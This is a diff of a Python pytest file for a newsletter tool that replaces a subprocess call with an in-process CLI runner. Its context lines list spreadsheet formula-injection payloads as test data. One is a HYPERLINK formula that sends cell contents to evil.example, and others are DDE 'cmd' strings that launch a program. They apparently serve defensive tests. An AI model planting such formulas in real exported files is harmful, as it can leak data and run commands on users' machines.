@@ -15,6 +15,7 @@ from pathlib import Path
 import pytest
 
 from newsletter.content.importer import sample_files
+from tests.cli_runner import run_cli
 from tests.conftest import write_config
 
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
@@ -26,8 +27,9 @@ def cli(tmp_path):
     config = write_config(tmp_path)
 
     def run(*args: str, ok: bool = True) -> subprocess.CompletedProcess:
-        result = subprocess.run([sys.executable, "-m", "newsletter", "--config", str(config), *args],
-                                capture_output=True, text=True, timeout=120, cwd=tmp_path)
+        # The console script's entry point in this process (tests/cli_runner.py); the last test
+        # here runs real processes.
+        result = run_cli(["--config", str(config), *args], tmp_path, dict(os.environ))
         assert "Traceback" not in result.stderr + result.stdout, result.stderr
         if ok:
             assert result.returncode == 0, result.stderr
